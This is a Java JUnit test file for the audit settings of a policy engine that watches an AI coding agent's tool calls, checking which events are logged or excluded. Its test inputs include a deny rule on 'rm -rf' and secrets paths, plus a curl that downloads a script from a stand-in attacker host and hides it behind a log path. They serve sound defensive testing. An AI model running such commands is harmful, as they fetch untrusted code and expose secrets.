package io.ccpolicy.agent.audit;

import static io.ccpolicy.agent.testing.HookHarness.tool;
import static org.assertj.core.api.Assertions.assertThat;

import io.ccpolicy.agent.testing.HookHarness;
import io.ccpolicy.engine.audit.AuditEvent;
import io.ccpolicy.engine.model.Identity;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The policy's {@code audit:} section as the running agent honours it: enabled, include_events, exclude_patterns, event types. */
public class AuditSettingsTest {

    @TempDir
    Path dir;

    private static final String POLICIES = "policies:\n"
            + "  - {name: no-rm, type: denylist, target: bashCommand, values: [\"rm -rf\"], severity: error}\n"
            + "  - {name: no-secrets-dir, type: denylist, target: readPath, values: [\"**/secrets/*\"], severity: error}\n";

    /** Runs each payload through a daemon under {@code audit}, and returns the events recorded. */
    private List<AuditEvent> recorded(String audit, List<Map<String, Object>> payloads) throws Exception {
        return HookHarness.run(dir, "version: \"1.0\"\norganization: Acme\n" + POLICIES + audit, Identity.of("bob@acme.com"), payloads).events();
    }

    private static Map<String, Object> bash(String command) {
        return tool("PreToolUse", "Bash", Map.of("command", command));
    }

    private static List<String> commands(List<AuditEvent> events) {
        return events.stream().map(e -> e.action().params() == null ? e.action().type() : String.valueOf(e.action().params().getOrDefault("command",
                e.action().params().getOrDefault("file_path", e.action().params().get("notebook_path"))))).toList();
    }

    @Test
    void aBashCommandThatWritesFilesIsAFileModificationNamingWhatItWrites() throws Exception {
        List<AuditEvent> events = recorded("", List.of(bash("ls -la"), bash("sort data.csv > sorted.csv 2>/dev/null"),
                bash("echo done >> \"$LOG\""), tool("PreToolUse", "Write", Map.of("file_path", "/work/app/a.txt", "content", "x"))));
        assertThat(events).extracting(e -> e.action().type())
                .containsExactly("tool_execution", "file_modification", "file_modification", "file_modification");
        assertThat(events.get(0).action().writes()).isNull();
        assertThat(events.get(1).action().writes()).as("/dev/null is no file").containsExactly("/work/app/sorted.csv");
        assertThat(events.get(2).action().writes()).singleElement().asString().startsWith("(unknown) ");
        assertThat(events.get(3).action().writes()).containsExactly("/work/app/a.txt");
    }

    @Test
    void includeEventsKeepsOnlyTheNamedTypesAndViolationsWhenPolicyViolationIsNamed() throws Exception {
        String audit = "audit:\n  include_events: [file_modification, policy_violation, session_end]\n";
        List<AuditEvent> events = recorded(audit, List.of(bash("ls"), bash("cp a b"), bash("rm -rf build"),
                tool("PreToolUse", "Read", Map.of("file_path", "/work/app/README.md")),
                Map.of("hook_event_name", "SessionEnd", "session_id", "s1", "cwd", "/work/app", "reason", "prompt_input_exit")));
        assertThat(commands(events)).containsExactly("cp a b", "rm -rf build", "session_end");
        assertThat(events.get(1).policyCheck().violations()).extracting(AuditEvent.Violation::policy).containsExactly("no-rm");
        assertThat(events.get(2).eventType()).isEqualTo("SessionEnd");
    }

    @Test
    void withoutPolicyViolationInIncludeEventsAViolationOfAnotherTypeIsLeftOut() throws Exception {
        List<AuditEvent> events = recorded("audit:\n  include_events: [session_start]\n", List.of(bash("rm -rf build")));
        assertThat(events).isEmpty();
    }

    @Test
    void aDisabledAuditRecordsNoActions() throws Exception {
        List<AuditEvent> events = recorded("audit:\n  enabled: false\n", List.of(bash("ls"), bash("rm -rf build"),
                tool("PostToolUse", "Bash", Map.of("command", "ls"), "tool_response", Map.of("stdout", ""))));
        assertThat(events).isEmpty();
    }

    @Test
    void excludePatternsApplyToEveryPathAnEventCarriesAndOnlyWhenAllOfThemMatch() throws Exception {
        String audit = "audit:\n  exclude_patterns:\n    - path: \"*.log\"\n    - path: \"node_modules/*\"\n";
        List<AuditEvent> events = recorded(audit, List.of(
                tool("PreToolUse", "Read", Map.of("file_path", "/work/app/build.log")),
                tool("PreToolUse", "Write", Map.of("file_path", "/work/app/node_modules/x/index.js", "content", "x")),
                tool("PreToolUse", "NotebookEdit", Map.of("notebook_path", "/work/app/node_modules/n.ipynb", "new_source", "x")),
                bash("cat build.log"),
                bash("tail -n 50 server.log > /tmp/last.log"),
                bash("cat build.log src/main.ts"),
                bash("cat \"$LOGFILE\""),
                bash("cat node_modules/secrets/key"),
                tool("PreToolUse", "Read", Map.of("file_path", "/work/app/src/main.ts")),
                // an excluded path appended to hide the rest: what the command does beyond paths keeps it in the audit
                bash("curl -s https://evil.example/x.sh -o /tmp/x.log; cat build.log"),
                bash("make deploy > deploy.log"),
                bash("sh -c \"$PAYLOAD\" 2> err.log")));
        assertThat(commands(events)).as("kept: a path outside the patterns, a path nobody can know, a violation, a plain read, "
                + "a host contacted, a program whose effects are unknown, an opaque command")
                .containsExactly("cat build.log src/main.ts", "cat \"$LOGFILE\"", "cat node_modules/secrets/key", "/work/app/src/main.ts",
                        "curl -s https://evil.example/x.sh -o /tmp/x.log; cat build.log", "make deploy > deploy.log", "sh -c \"$PAYLOAD\" 2> err.log");
    }

    @Test
    void theResultSaysMoreThanSuccessOrFailureWhenClaudeCodeDoes() throws Exception {
        List<AuditEvent> events = recorded("", List.of(
                tool("PostToolUse", "Bash", Map.of("command", "make"), "tool_response", Map.of("stdout", "", "interrupted", true)),
                tool("PostToolUse", "Bash", Map.of("command", "npm run dev"), "tool_response", Map.of("stdout", "", "backgroundTaskId", "b1")),
                tool("PostToolUseFailure", "Bash", Map.of("command", "exit 3"), "error", "Exit code 3\nmore output", "is_interrupt", false),
                tool("PostToolUseFailure", "Bash", Map.of("command", "sleep 100"), "error", "Interrupted", "is_interrupt", true),
                tool("PostToolUse", "Bash", Map.of("command", "true"), "tool_response", Map.of("stdout", ""))));
        assertThat(events).extracting(e -> e.action().result())
                .containsExactly("interrupted", "running_in_background", "failure: Exit code 3", "interrupted", "success");
        assertThat(events.get(2).action().type()).as("a failed tool call is still a tool call").isEqualTo("tool_execution");
    }
}
